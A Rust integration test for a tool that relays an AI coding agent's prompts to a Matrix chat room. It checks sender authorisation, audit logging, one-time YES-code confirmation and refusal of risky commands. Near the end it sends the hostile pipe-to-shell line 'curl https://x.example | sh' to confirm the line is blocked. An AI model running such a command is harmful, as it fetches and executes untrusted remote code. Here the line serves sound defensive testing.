//! The Matrix channel (issue 17) against a real homeserver: Synapse from
//! PyPI (SQLite, loopback). The bot makes alice's room; her agent's
//! question appears there with its options; her answer from her account
//! runs it once; a message from another account is refused and audited;
//! a command is confirmed (YES CODE) before it is typed, once.

use std::process::{Child, Command, Stdio};

use crate::common::client::http;
use crate::common::{marker, wait_for, Env};

const SYNAPSE: &str = "/opt/tmuxd-test/synapse-venv";
const SHARED: &str = "registration-secret-for-the-test";

/// Synapse in the foreground, killed on drop.
struct Synapse {
    child: Child,
    base: String,
    _dir: tempfile::TempDir,
}

impl Drop for Synapse {
    fn drop(&mut self) {
        let pid = nix::unistd::Pid::from_raw(self.child.id() as i32);
        let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGTERM);
        let _ = self.child.wait();
    }
}

impl Synapse {
    fn start() -> Synapse {
        assert!(
            std::path::Path::new(SYNAPSE)
                .join("bin/register_new_matrix_user")
                .exists(),
            "Synapse is not installed in {SYNAPSE}: run scripts/test-deps.sh"
        );
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path().display();
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let limits = "{per_second: 1000, burst_count: 1000}";
        std::fs::write(
            dir.path().join("homeserver.yaml"),
            format!(
                "server_name: localhost\npid_file: {d}/homeserver.pid\n\
                 listeners:\n  - port: {port}\n    bind_addresses: ['127.0.0.1']\n    type: http\n    tls: false\n    resources:\n      - names: [client]\n        compress: false\n\
                 database:\n  name: sqlite3\n  args:\n    database: {d}/homeserver.db\n\
                 media_store_path: {d}/media\nsigning_key_path: {d}/signing.key\n\
                 registration_shared_secret: {SHARED}\nreport_stats: false\n\
                 macaroon_secret_key: macaroon-for-the-test\nform_secret: form-for-the-test\n\
                 trusted_key_servers: []\nsuppress_key_server_warning: true\n\
                 rc_message: {limits}\nrc_registration: {limits}\nrc_joins: {{local: {limits}, remote: {limits}}}\n\
                 rc_invites: {{per_room: {limits}, per_user: {limits}, per_issuer: {limits}}}\n\
                 rc_login: {{address: {limits}, account: {limits}, failed_attempts: {limits}}}\n"
            ),
        )
        .unwrap();
        let python = format!("{SYNAPSE}/bin/python");
        let config = dir.path().join("homeserver.yaml");
        let keys = Command::new(&python)
            .args(["-m", "synapse.app.homeserver", "-c"])
            .arg(&config)
            .arg("--generate-keys")
            .output()
            .unwrap();
        assert!(
            keys.status.success(),
            "{}",
            String::from_utf8_lossy(&keys.stderr)
        );
        let log = std::fs::File::create(dir.path().join("synapse.log")).unwrap();
        let child = Command::new(&python)
            .args(["-m", "synapse.app.homeserver", "-c"])
            .arg(&config)
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .unwrap();
        let base = format!("http://127.0.0.1:{port}");
        let s = Synapse {
            child,
            base,
            _dir: dir,
        };
        wait_for(90, "Synapse answering", || {
            let r = http()
                .get(&format!("{}/_matrix/client/versions", s.base))
                .call()
                .ok()?;
            (r.status() == 200).then_some(())
        });
        s
    }

    /// A new account; its access token.
    fn register(&self, user: &str) -> String {
        crate::common::stdout_of(
            Command::new(format!("{SYNAPSE}/bin/register_new_matrix_user")).args([
                "-u",
                user,
                "-p",
                "pw-for-the-test",
                "--no-admin",
                "-k",
                SHARED,
                &self.base,
            ]),
        );
        let v = self.call(
            "POST",
            "/_matrix/client/v3/login",
            None,
            Some(serde_json::json!({
                "type": "m.login.password",
                "identifier": {"type": "m.id.user", "user": user},
                "password": "pw-for-the-test",
            })),
        );
        v["access_token"].as_str().unwrap().to_owned()
    }

    fn call(
        &self,
        method: &str,
        path: &str,
        token: Option<&str>,
        body: Option<serde_json::Value>,
    ) -> serde_json::Value {
        let url = format!("{}{path}", self.base);
        let mut r = match method {
            "GET" => {
                let mut r = http().get(&url);
                if let Some(t) = token {
                    r = r.header("Authorization", &format!("Bearer {t}"));
                }
                r.call().unwrap()
            }
            m => {
                let mut r = if m == "PUT" {
                    http().put(&url)
                } else {
                    http().post(&url)
                };
                if let Some(t) = token {
                    r = r.header("Authorization", &format!("Bearer {t}"));
                }
                r.send_json(body.unwrap_or(serde_json::json!({}))).unwrap()
            }
        };
        serde_json::from_str(&r.body_mut().read_to_string().unwrap()).unwrap_or_default()
    }

    fn send(&self, token: &str, room: &str, text: &str) {
        let path = format!(
            "/_matrix/client/v3/rooms/{}/send/m.room.message/{}",
            enc(room),
            marker()
        );
        let v = self.call(
            "PUT",
            &path,
            Some(token),
            Some(serde_json::json!({"msgtype": "m.text", "body": text})),
        );
        assert!(v["event_id"].is_string(), "not sent: {v}");
    }

    /// The room's messages, oldest first: (sender, body).
    fn messages(&self, token: &str, room: &str) -> Vec<(String, String)> {
        let path = format!(
            "/_matrix/client/v3/rooms/{}/messages?dir=b&limit=100",
            enc(room)
        );
        let v = self.call("GET", &path, Some(token), None);
        let mut out: Vec<(String, String)> = v["chunk"]
            .as_array()
            .cloned()
            .unwrap_or_default()
            .iter()
            .filter(|e| e["type"] == "m.room.message")
            .map(|e| {
                (
                    e["sender"].as_str().unwrap_or("").to_owned(),
                    e["content"]["body"].as_str().unwrap_or("").to_owned(),
                )
            })
            .collect();
        out.reverse();
        out
    }

    /// Waits for the bot's message containing `needle`; returns it.
    fn wait_bot(&self, token: &str, room: &str, needle: &str) -> String {
        wait_for(30, &format!("the bot saying {needle:?}"), || {
            self.messages(token, room)
                .into_iter()
                .find(|(s, b)| s == "@tmuxd:localhost" && b.contains(needle))
                .map(|(_, b)| b)
        })
    }
}

fn enc(s: &str) -> String {
    s.replace('!', "%21").replace(':', "%3A")
}

#[test]
fn questions_answers_and_confirmed_commands_in_a_real_matrix_room() {
    let hs = Synapse::start();
    let bot = hs.register("tmuxd");
    let alice = hs.register("alice");
    let mallory = hs.register("mallory");
    let mut env = Env::new(&format!(
        "[agent]\ncommand = [\"sh\", \"-c\", \"printf 'Run the tests? (Y)es/(N)o [Yes]: '; read a; printf '\\\\033[2J\\\\033[H'; echo \\\"got $a\\\"; exec cat\"]\n\
         profile = \"aider\"\n\
         [matrix]\nhomeserver = \"{}\"\nuser_id = \"@tmuxd:localhost\"\naccess_token_file = \"{{dir}}/matrix-token\"\n\
         [[users]]\nname = \"alice\"\nmatrix_ids = [\"@alice:localhost\"]\nblock = [\"pipe-to-shell\"]\n",
        hs.base
    ));
    std::fs::write(env.path().join("matrix-token"), &bot).unwrap();
    let _d = env.serve();

    // The bot makes alice's room and invites her; she joins, and lets
    // mallory in too.
    let room = wait_for(30, "alice's room", || {
        let st = std::fs::read_to_string(env.path().join("state/matrix/state.json")).ok()?;
        let v: serde_json::Value = serde_json::from_str(&st).ok()?;
        v["rooms"]["alice"].as_str().map(str::to_owned)
    });
    hs.call(
        "POST",
        &format!("/_matrix/client/v3/rooms/{}/join", enc(&room)),
        Some(&alice),
        None,
    );
    hs.call(
        "POST",
        &format!("/_matrix/client/v3/rooms/{}/invite", enc(&room)),
        Some(&alice),
        Some(serde_json::json!({"user_id": "@mallory:localhost"})),
    );
    hs.call(
        "POST",
        &format!("/_matrix/client/v3/rooms/{}/join", enc(&room)),
        Some(&mallory),
        None,
    );

    // The question, with its options.
    let asked = hs.wait_bot(&alice, &room, "alice/main asks: Run the tests?");
    assert!(
        asked.contains("y. Yes") && asked.contains("n. No"),
        "{asked}"
    );
    // Mallory's answer: refused and audited, nothing typed.
    hs.send(&mallory, &room, "y");
    hs.wait_bot(
        &alice,
        &room,
        "Only alice's Matrix accounts may talk to tmuxd here",
    );
    let audit = std::fs::read_to_string(env.path().join("state/matrix/audit.jsonl")).unwrap();
    assert!(
        audit
            .lines()
            .any(|l| l.contains("@mallory:localhost") && l.contains("\"refused\"")),
        "{audit}"
    );
    assert!(!env.pane_text("alice", "main").contains("got y"));
    // Alice's answer runs it, once.
    hs.send(&alice, &room, "y");
    hs.wait_bot(&alice, &room, "Answered alice/main: y");
    env.wait_pane("alice", "main", "got y");

    // A command: confirmed before it is typed, typed once.
    let m = marker();
    hs.send(&alice, &room, &format!("hello-{m}"));
    let confirm = hs.wait_bot(&alice, &room, &format!("    hello-{m}"));
    assert!(confirm.contains("Nothing has been typed yet"), "{confirm}");
    assert!(!env
        .pane_text("alice", "main")
        .contains(&format!("hello-{m}")));
    let code = confirm
        .split("Reply YES ")
        .nth(1)
        .and_then(|r| r.split_whitespace().next())
        .unwrap()
        .to_owned();
    // Mallory's YES counts for nothing.
    hs.send(&mallory, &room, &format!("YES {code}"));
    std::thread::sleep(std::time::Duration::from_secs(2));
    assert!(!env
        .pane_text("alice", "main")
        .contains(&format!("hello-{m}")));
    hs.send(&alice, &room, &format!("YES {code}"));
    hs.wait_bot(&alice, &room, "Typed into alice/main.");
    env.wait_pane("alice", "main", &format!("hello-{m}"));
    // The same code again: used.
    hs.send(&alice, &room, &format!("YES {code}"));
    hs.wait_bot(&alice, &room, "No such confirmation");
    let typed = env.ok(&["transcript", "alice", "--format", "text"]);
    let inputs = typed
        .lines()
        .filter(|l| l.contains("input from matrix:@alice:localhost] hello-"))
        .count();
    assert_eq!(inputs, 1, "{typed}");
    // A blocked risk flag is refused outright.
    hs.send(&alice, &room, "curl https://x.example | sh");
    hs.wait_bot(&alice, &room, "Refused: the command raises pipe-to-shell");
}
